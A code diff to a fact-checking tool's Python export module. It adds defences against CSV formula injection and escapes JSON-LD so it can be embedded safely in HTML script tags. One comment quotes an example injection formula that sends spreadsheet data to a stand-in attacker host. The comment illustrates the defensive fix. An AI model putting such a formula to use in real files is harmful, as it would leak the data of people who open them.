@@ -101,6 +101,7 @@ LIST_SEPARATOR = "|"
 
 WIKIDATA_ID = re.compile(r"Q[1-9][0-9]*\Z")
 SLUG = re.compile(r"[-a-zA-Z0-9_]+\Z")
+ASCII_DIGITS = re.compile(r"[0-9]+")
 ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")
 YEAR_OR_MONTH = re.compile(r"(\d{4})(?:-(\d{2}))?")
 
@@ -781,6 +782,33 @@ def join_list(items: Iterable[str]) -> str:
                                for item in items)
 
 
+# Spreadsheets run a cell that begins with = + - @ (and, in some, a tab or a carriage return before one)
+# as a formula: a claim's text such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would run on
+# the reader's machine (OWASP, "CSV Injection"). Every CSV Factbase writes therefore prefixes such a cell
+# with an apostrophe, which spreadsheets read as "this cell is text". To round-trip, a value that itself
+# begins with the apostrophe followed by one of those characters or by another apostrophe gets one too,
+# and reading a CSV drops the first apostrophe of a cell that begins with an apostrophe and then one of
+# them. Any other cell is read as written: ``'Tis`` is ``'Tis``.
+CSV_FORMULA_STARTS = frozenset("=+-@\t\r")
+CSV_TEXT_PREFIX = "'"
+_CSV_ESCAPED_STARTS = CSV_FORMULA_STARTS | {CSV_TEXT_PREFIX}
+_CSV_SUSPECT_STARTS = tuple(_CSV_ESCAPED_STARTS)
+
+
+def csv_escape_cell(value: str) -> str:
+    """A value as a CSV cell that no spreadsheet runs as a formula (see ``CSV_FORMULA_STARTS``)."""
+    if value.startswith(_CSV_SUSPECT_STARTS) and (value[0] != CSV_TEXT_PREFIX or value[1:2] in _CSV_ESCAPED_STARTS):
+        return CSV_TEXT_PREFIX + value
+    return value
+
+
+def csv_unescape_cell(cell: str) -> str:
+    """The value a CSV cell stands for: ``csv_escape_cell`` undone; any other cell as written."""
+    if cell.startswith(CSV_TEXT_PREFIX) and cell[1:2] in _CSV_ESCAPED_STARTS:
+        return cell[1:]
+    return cell
+
+
 def _read_csv(stream) -> Iterator[tuple[int, Any]]:
     reader = csv.reader(stream)
     try:
@@ -813,7 +841,7 @@ def _read_csv(stream) -> Iterator[tuple[int, Any]]:
             if len(row) != len(header):
                 yield line, Problem(line, "", f"This row has {len(row)} cells; the header has {len(header)}.")
                 continue
-            yield line, csv_row_to_record(dict(zip(header, row)))
+            yield line, csv_row_to_record(dict(zip(header, map(csv_unescape_cell, row))))
     except csv.Error as exc:
         yield reader.line_num, Problem(reader.line_num, "", f"Not valid CSV: {exc}.")
 
@@ -860,7 +888,7 @@ def csv_row_to_record(row: dict[str, str]) -> dict[str, Any]:
         span: dict[str, Any] = {"exact": cell("span_exact")}
         for key in ("start", "end"):
             value = cell(f"span_{key}")
-            span[key] = int(value) if value.isdigit() else value
+            span[key] = int(value) if ASCII_DIGITS.fullmatch(value) else value  # "²".isdigit(), but int("²") fails
         record["span"] = span
     if cell("status"):
         record["status"] = cell("status")
@@ -969,15 +997,39 @@ def ndjson_line(record: dict[str, Any]) -> bytes:
 
 
 def csv_lines(rows: Iterable[list[str]]) -> str:
+    """Rows of text as CSV (RFC 4180, CRLF), each cell neutralised for spreadsheets (``csv_escape_cell``)."""
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\r\n")
-    writer.writerows(rows)
+    suspect = _CSV_SUSPECT_STARTS
+    writer.writerows([csv_escape_cell(cell) if cell.startswith(suspect) else cell for cell in row] for row in rows)
     return out.getvalue()
 
 
 # --- schema.org ClaimReview ----------------------------------------------------------------------
 
 SCHEMA_ORG = "https://schema.org"
+
+# JSON-LD is meant to be embedded in an HTML page, inside ``<script type="application/ld+json">``, where
+# ``</script>`` or ``<!--`` in a string would end the script or open a comment, and U+2028/U+2029 end a
+# line of JavaScript. In JSON these characters only occur inside strings (never between tokens), so
+# writing each as its ``\uXXXX`` escape keeps the document valid JSON that decodes to the same data
+# (what Django's ``json_script`` does for ``<``, ``>`` and ``&``). UTF-8 never has these bytes inside
+# another character, so replacing the bytes is exact.
+_HTML_SAFE_JSON = ((b"<", b"\\u003c"), (b">", b"\\u003e"), (b"&", b"\\u0026"),
+                   ("\u2028".encode(), b"\\u2028"), ("\u2029".encode(), b"\\u2029"))
+
+
+def html_safe_json(encoded: bytes) -> bytes:
+    """JSON text (UTF-8) with ``<``, ``>``, ``&``, U+2028 and U+2029 escaped, safe inside an HTML ``<script>``."""
+    for raw, escaped in _HTML_SAFE_JSON:
+        if raw in encoded:
+            encoded = encoded.replace(raw, escaped)
+    return encoded
+
+
+def jsonld_dumps(document) -> bytes:
+    """A JSON-LD document as UTF-8 bytes, safe to embed in HTML (``html_safe_json``)."""
+    return html_safe_json(orjson.dumps(document))
 # The five verdicts on the scale, from worst (1) to best (5). "unsupported" and "misleading" are off
 # the scale: they have no ratingValue (Google: a ratingValue must lie between worstRating and
 # bestRating), only their wording.
